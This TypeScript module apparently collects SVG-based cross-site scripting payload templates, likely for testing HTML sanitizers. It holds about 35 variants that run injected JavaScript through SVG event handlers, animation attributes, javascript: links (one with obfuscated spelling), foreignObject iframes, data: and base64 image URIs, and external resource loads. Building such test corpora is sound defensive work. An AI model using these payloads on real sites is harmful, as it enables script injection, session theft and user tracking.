import { family } from './payload.ts'

/** SVG within HTML, which has scripts, handlers and addresses of its own. */
export const SVG_PAYLOADS = family('svg', {
  load: ({ js }) => `<svg onload="${js}"><circle r="9"/></svg>`,
  'load-bare': ({ js }) => `<svg/onload=${js}>`,
  'load-inner': ({ js }) => `<svg><g onload="${js}"/><svg onload="${js}"/></svg>`,
  'animate-begin': ({ js }) => `<svg><animate attributeName=x dur=1ms onbegin="${js}"/></svg>`,
  'animate-end': ({ js }) => `<svg><animate attributeName=x dur=1ms onend="${js}"/></svg>`,
  'animate-repeat': ({ js }) => `<svg><animate attributeName=x dur=1ms repeatCount=9 onrepeat="${js}"/></svg>`,
  'animate-motion': ({ js }) => `<svg><animateMotion dur=1ms onbegin="${js}" path="M0 0h9"/></svg>`,
  'animate-transform': ({ js }) => `<svg><animateTransform attributeName=transform dur=1ms onbegin="${js}"/></svg>`,
  'set-begin': ({ js }) => `<svg><set attributeName=x to=9 onbegin="${js}"/></svg>`,
  discard: ({ js }) => `<svg><discard begin=0s onbegin="${js}"/></svg>`,
  'set-handler': ({ js }) => `<svg><rect width=9 height=9><set attributeName=onclick to="${js}"/></rect></svg>`,
  'animate-address': ({ js }) =>
    `<svg><a><animate attributeName=href values="javascript:${js};javascript:${js}"/><text y=20>press</text></a></svg>`,
  'set-address': ({ js }) =>
    `<svg><a><set attributeName=xlink:href to="javascript:${js}"/><text y=20>press</text></a></svg>`,
  link: ({ js }) => `<svg><a href="javascript:${js}"><text y=20>press</text></a></svg>`,
  'link-xlink': ({ js }) => `<svg><a xlink:href="javascript:${js}"><text y=20>press</text></a></svg>`,
  'link-own-prefix': ({ js }) =>
    `<svg xmlns:q="http://www.w3.org/1999/xlink"><a q:href="javascript:${js}"><text y=20>press</text></a></svg>`,
  'link-spelling': ({ js }) => `<svg><a xlink:href="java&#x0A;script:${js}"><text y=20>press</text></a></svg>`,
  use: ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${js}'/></svg>#x"/></svg>`,
  'image-error': ({ js }) => `<svg><image href="x:" onerror="${js}"/></svg>`,
  'image-elsewhere': ({ url }) => `<svg><image xlink:href="${url}.png" width=9 height=9 /></svg>`,
  'filter-elsewhere': ({ url }) =>
    `<svg><filter id=f><feImage href="${url}.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  'foreign-image': ({ js }) => `<svg><foreignObject><img src="x:" onerror="${js}"></foreignObject></svg>`,
  'foreign-frame': ({ js }) =>
    `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
  'foreign-body': ({ js }) =>
    `<svg><foreignObject><body onload="${js}"><details open ontoggle="${js}"></body></foreignObject></svg>`,
  'title-image': ({ js }) => `<svg><title><img src="x:" onerror="${js}"></title></svg>`,
  'description-image': ({ js }) => `<svg><desc><img src="x:" onerror="${js}"></desc></svg>`,
  'style-import': ({ url }) => `<svg><style>@import '${url}.css';</style><rect/></svg>`,
  'style-background': ({ url }) => `<svg style="background:url(${url}.png);width:9px;height:9px"></svg>`,
  handler: ({ js }) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler></svg>`,
  'focus-in': ({ js }) => `<svg><text y=20 tabindex=0 autofocus onfocus="${js}" onfocusin="${js}">t</text></svg>`,
  click: ({ js }) => `<svg><text y=20><tspan onclick="${js}">press</tspan></text></svg>`,
  'image-of-script': ({ js }) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'><script>${js}</script></svg>">`,
  'image-of-html': ({ js }) =>
    `<img src="data:image/svg+xml;base64,${btoa(`<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>${js}&lt;/script>'/></foreignObject></svg>`)}">`,
  'image-of-elsewhere': ({ url }) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}.png'/><style>@import '${url}.css'</style></svg>">`,
})
